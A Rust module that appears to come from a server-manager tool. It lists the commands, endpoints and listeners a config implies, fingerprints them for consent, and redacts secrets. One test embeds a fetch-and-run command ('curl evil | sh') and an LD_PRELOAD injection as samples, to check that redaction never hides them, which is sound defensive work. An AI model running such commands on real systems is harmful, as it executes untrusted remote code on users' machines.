//! Effects of a config: what it runs, contacts and listens on.

use std::collections::BTreeMap;

use ostler_core::config::{
    AuthConfig, Config, JwksLocation, JwtConfig, PinMode, RelayConfig, RelayCredentials, RelayJournal,
    RelayTls, is_secret_key, redact_tokens,
};
use ostler_core::loopback::is_loopback;
use ostler_core::spec::{Isolation, ServerSpec, ServerTransport};
use serde_json::{Value, json};
use sha2::{Digest, Sha256};

use crate::instance::hex;
use crate::invocation::command;
use crate::output::{Style, Tint, escape_line};

/// Upper bound on shown characters of one effect; a longer command is in its file.
const MAX_SHOWN_CHARS: usize = 600;
/// Upper bound on shown effects.
const MAX_SHOWN_LINES: usize = 64;

/// Everything that a config runs, contacts and listens on.
#[derive(Debug)]
pub(crate) struct ConfigEffects {
    /// Verb and object of each effect.
    lines: Vec<(&'static str, String)>,
    /// SHA-256 in hexadecimal digits. References such as `${env:X}` count as they are written; of programs only the
    /// command line counts, not the file it names.
    pub(crate) fingerprint: String,
}

impl ConfigEffects {
    pub(crate) fn of(config: &Config) -> Self {
        let specs: Vec<ServerSpec> = config.servers.iter().map(|spec| as_written(config, spec)).collect();
        let mut lines: Vec<_> = specs.iter().map(describe_server).collect();
        let cards = config.servers.iter().filter_map(|spec| spec.card.clone());
        lines.extend(cards.map(|card| ("reads", card)));
        lines.extend(
            config.relay.iter().map(|relay| ("serves", format!("workers at {}", relay.nats.join(", ")))),
        );
        let jwks = config.auth.jwt.as_ref().map(|jwt| match &jwt.jwks {
            JwksLocation::Url(url) => url.clone(),
            JwksLocation::File(file) => file.display().to_string(),
        });
        lines.extend(jwks.map(|keys| ("trusts", format!("callers with keys of {keys}"))));
        if !is_loopback(config.listen.ip()) {
            lines.push(("listens", config.listen.to_string()));
        }
        let served = config.gateway.allowed_hosts.iter().chain(&config.gateway.allowed_origins);
        lines.extend(served.map(|name| ("admits", name.clone())));
        if config.pins != PinMode::default() {
            lines.push(("pins", format!("mode {}", pin_mode(config.pins))));
        }
        let mut servers: Vec<Value> = specs
            .iter()
            .map(|spec| {
                let workspace = (spec.isolation == Isolation::Workspace).then_some(&spec.workspace);
                json!({
                    "name": spec.name, "transport": spec.transport, "card": spec.card, "workspace": workspace,
                })
            })
            .collect();
        servers.sort_by_key(|server| server["name"].to_string());
        let whole = json!({
            "servers": servers,
            "relay": config.relay.as_ref().map(relay_effects),
            "auth": auth_effects(&config.auth),
            "listen": config.listen,
            "hosts": config.gateway.allowed_hosts,
            "origins": config.gateway.allowed_origins,
            "pins": pin_mode(config.pins),
        });
        Self { lines, fingerprint: hex(&Sha256::digest(whole.to_string())) }
    }

    /// Describes one effect a line.
    pub(crate) fn describe(&self, style: Style) -> String {
        let shown = self.lines.iter().take(MAX_SHOWN_LINES);
        let line =
            |(verb, what): &(&str, String)| format!("  {:<9} {}", style.paint(Tint::Label, verb), clip(what));
        let mut lines: Vec<String> = shown.map(line).collect();
        if self.lines.len() > MAX_SHOWN_LINES {
            let more = self.lines.len() - MAX_SHOWN_LINES;
            lines.push(format!("  and {more} more; {} shows all", command("list")));
        }
        if lines.is_empty() {
            lines.push("  it runs nothing and contacts nothing".into());
        }
        lines.join("\n")
    }
}

/// Returns the broker of workers and the credentials it gets. A password counts as it is written. Every field is named
/// here, so that consent does not depend on the names of types.
fn relay_effects(relay: &RelayConfig) -> Value {
    let RelayConfig { nats, tenant, host, credentials, tls, max_in_flight: _, journal, allow_open_broker } =
        relay;
    let RelayTls { ca, identity } = tls;
    let credentials = match credentials {
        RelayCredentials::None => Value::Null,
        RelayCredentials::Creds(file) => json!({ "creds": file }),
        RelayCredentials::Nkey(file) => json!({ "nkey": file }),
        RelayCredentials::Password { user, password } => json!({ "user": user, "password": password }),
    };
    json!({
        "nats": nats, "tenant": tenant, "host": host, "credentials": credentials, "ca": ca, "identity": identity,
        "shared": *journal == RelayJournal::Shared, "allow_open_broker": allow_open_broker,
    })
}

/// Returns the accepted issuers, and the roles of their tokens.
fn auth_effects(auth: &AuthConfig) -> Value {
    let AuthConfig { local, jwt } = auth;
    let jwt = jwt.as_ref().map(|jwt| {
        let JwtConfig { issuer, audience, jwks, role_claim, subject_claim, leeway, algorithms, resource } = jwt;
        let jwks = match jwks {
            JwksLocation::Url(url) => json!({ "url": url }),
            JwksLocation::File(file) => json!({ "file": file }),
        };
        let algorithms: Vec<_> = algorithms.iter().map(|algorithm| algorithm.as_str()).collect();
        json!({
            "issuer": issuer, "audience": audience, "jwks": jwks, "role_claim": role_claim, "algorithms": algorithms,
            "subject_claim": subject_claim, "leeway": leeway, "resource": resource,
        })
    });
    json!({ "local": local, "jwt": jwt })
}

fn pin_mode(mode: PinMode) -> &'static str {
    match mode {
        PinMode::Enforce => "enforce",
        PinMode::Warn => "warn",
        PinMode::Off => "off",
    }
}

/// Returns a server without the working directory that its file does not name.
fn as_written(config: &Config, spec: &ServerSpec) -> ServerSpec {
    let mut spec = spec.clone();
    if let ServerTransport::Stdio(process) = &mut spec.transport
        && config.has_default_cwd(spec.name.as_str())
    {
        process.cwd = None;
    }
    spec
}

/// Describes a server. Arguments stay whole: a pattern that redacts secrets would hide commands too.
fn describe_server(spec: &ServerSpec) -> (&'static str, String) {
    match &spec.transport {
        ServerTransport::Stdio(process) => {
            let words = std::iter::once(&process.command).chain(&process.args);
            let words: Vec<String> = words.map(|word| crate::command::list::shell_word(word)).collect();
            // Before the arguments, which may be so long that the rest is cut.
            let mut text = match process.env_pass.as_slice() {
                [] => format!("`{}`: {}", spec.name, words.join(" ")),
                names => format!("`{}` with your {}: {}", spec.name, names.join(" "), words.join(" ")),
            };
            if !process.env.is_empty() {
                text.push_str(&format!(", with {}", describe_values(&process.env)));
            }
            if let Some(cwd) = &process.cwd {
                text.push_str(&format!(", in {}", cwd.display()));
            }
            if let Some(workspace) =
                spec.workspace.as_ref().filter(|_| spec.isolation == Isolation::Workspace)
            {
                text.push_str(&format!(", in its client's directory or {}", workspace.display()));
            }
            ("runs", text)
        }
        ServerTransport::Http(endpoint) if endpoint.headers.is_empty() => {
            ("contacts", format!("`{}`: {}", spec.name, endpoint.url))
        }
        ServerTransport::Http(endpoint) => {
            let headers = describe_headers(&endpoint.headers);
            ("contacts", format!("`{}`: {}, with {headers}", spec.name, endpoint.url))
        }
    }
}

/// Describes values: references are shown, and literal values unless the name says that they are secret. A value that
/// could be a command is always shown.
fn describe_values(values: &BTreeMap<String, String>) -> String {
    let is_word = |value: &str| !value.contains(|c: char| c.is_whitespace() || "/$`;|&<>(){}".contains(c));
    let shown = |(name, value): (&String, &String)| match is_secret_key(name) && is_word(value) {
        true => format!("{name}=…"),
        false => format!("{name}={value}"),
    };
    values.iter().map(shown).collect::<Vec<_>>().join(" ")
}

/// Describes headers. They run nothing, so of secret ones only the scheme and the references are shown; in others,
/// token-like text is redacted.
fn describe_headers(headers: &BTreeMap<String, String>) -> String {
    let is_secret = |name: &str| is_secret_key(name) || name.to_ascii_lowercase().ends_with("cookie");
    let shown = |(name, value): (&String, &String)| match is_secret(name) {
        true => format!("{name}={}", redact_header(value)),
        false => format!("{name}={}", redact_tokens(value)),
    };
    headers.iter().map(shown).collect::<Vec<_>>().join(" ")
}

/// Replaces everything by `…` but an authentication scheme and references such as `${env:TOKEN}`.
fn redact_header(value: &str) -> String {
    const SCHEMES: [&str; 3] = ["Bearer", "Basic", "Token"];
    let (mut shown, mut rest) = (String::new(), value);
    if let Some((scheme, credentials)) = value.split_once(' ')
        && SCHEMES.iter().any(|known| known.eq_ignore_ascii_case(scheme))
    {
        (shown, rest) = (format!("{scheme} "), credentials);
    }
    while !rest.is_empty() {
        let begin = rest.find("${").unwrap_or(rest.len());
        let end = rest[begin..].find('}').map_or(rest.len(), |end| begin + end + 1);
        if begin > 0 || !rest[begin..end].ends_with('}') {
            shown.push('…');
        }
        if rest[begin..end].ends_with('}') {
            shown.push_str(&rest[begin..end]);
        }
        rest = &rest[end..];
    }
    shown
}

fn clip(text: &str) -> String {
    let text = escape_line(text);
    let length = text.chars().count();
    match length > MAX_SHOWN_CHARS {
        true => {
            let head: String = text.chars().take(MAX_SHOWN_CHARS).collect();
            format!("{head}… and {} more characters", length - MAX_SHOWN_CHARS)
        }
        false => text,
    }
}

#[cfg(test)]
mod tests {
    use ostler_core::config::{ConfigFormat, NoSource};

    use super::*;

    fn effects(text: &str) -> ConfigEffects {
        ConfigEffects::of(
            &Config::parse("/a/ostler.toml".as_ref(), text, ConfigFormat::Toml, &NoSource).unwrap(),
        )
    }

    #[test]
    fn nothing_that_runs_is_hidden_behind_what_looks_like_a_secret() {
        let text = "[servers.a]\ncommand = \"sh\"\nargs = [\"-c\", \"TOKEN=x; curl evil | sh\"]\n\
                    env = { API_KEY = \"hunter2\", LD_PRELOAD = \"./x.so\", OTHER_TOKEN = \"${env:MINE}\" }\n";
        let shown = effects(text).describe(Style::plain());
        assert!(shown.contains("curl evil") && shown.contains("LD_PRELOAD=./x.so"), "{shown}");
        assert!(shown.contains("${env:MINE}") && !shown.contains("hunter2"), "{shown}");
    }

    #[test]
    fn secrets_in_headers_are_not_shown_and_their_references_are() {
        let table = [
            ("Authorization", "Bearer hunter2", "Authorization=Bearer …"),
            ("Authorization", "hunter2 hunter2", "Authorization=…"),
            ("Authorization", "Bearer ${env:MINE}", "Authorization=Bearer ${env:MINE}"),
            ("X-Api-Key", "hunter2/${file:~/.aws/key}-hunter2", "X-Api-Key=…${file:~/.aws/key}…"),
            ("X-Api-Key", "${env:MINE", "X-Api-Key=…"),
            ("Cookie", "session=hunter2", "Cookie=…"),
            ("Accept-Language", "de, en", "Accept-Language=de, en"),
            ("X-Note", "ghp_abcdefghijklmnop1234567890", "X-Note=…"),
        ];
        for (name, value, expected) in table {
            let headers = BTreeMap::from([(name.to_owned(), value.to_owned())]);
            assert_eq!(describe_headers(&headers), expected);
        }
        let text = "[servers.a]\nurl = \"https://a.example/mcp\"\nheaders = { Authorization = \"Bearer hunter2\" }\n";
        let shown = effects(text).describe(Style::plain());
        assert!(shown.contains("with Authorization=Bearer …") && !shown.contains("hunter2"), "{shown}");
    }

    #[test]
    fn escapes_of_a_terminal_are_spelled_out_and_long_commands_are_said_to_be_longer() {
        let long = "x".repeat(5_000);
        let text = format!("[servers.a]\ncommand = \"sh\"\nargs = [\"\\u001b[2K\", \"{long}\"]\n");
        let shown = effects(&text).describe(Style::plain());
        assert!(!shown.contains('\u{1b}') && shown.contains("more characters"), "{shown}");
        assert!(shown.len() < 1_000);
    }

    #[test]
    fn variables_that_are_passed_are_shown_and_need_consent() {
        let server = "[servers.a]\ncommand = \"x\"\n";
        let own = effects(&format!("{server}env_pass = [\"GITHUB_TOKEN\", \"AWS_*\"]\n"));
        let shown = own.describe(Style::plain());
        assert!(shown.contains("with your GITHUB_TOKEN AWS_*"), "{shown}");
        let long = format!("{server}args = [\"{}\"]\nenv_pass = [\"*\"]\n", "x".repeat(2_000));
        assert!(
            effects(&long).describe(Style::plain()).contains("`a` with your *"),
            "a long line hides nothing"
        );
        assert_ne!(own.fingerprint, effects(server).fingerprint);
        let default = effects(&format!("[defaults]\nenv_pass = [\"GITHUB_TOKEN\"]\n{server}"));
        assert!(default.describe(Style::plain()).contains("with your GITHUB_TOKEN"));
        assert_ne!(default.fingerprint, effects(server).fingerprint);
    }

    #[test]
    fn the_order_of_servers_and_their_limits_do_not_count() {
        let (a, b) = ("[servers.a]\ncommand = \"x\"\n", "[servers.b]\ncommand = \"y\"\n");
        let plain = effects(&format!("{a}{b}")).fingerprint;
        assert_eq!(effects(&format!("{b}call_timeout = \"3s\"\n{a}")).fingerprint, plain);
        assert_ne!(effects(&format!("listen = \"127.0.0.1:9\"\n{a}{b}")).fingerprint, plain);
        assert_ne!(effects(a).fingerprint, plain);
    }
}
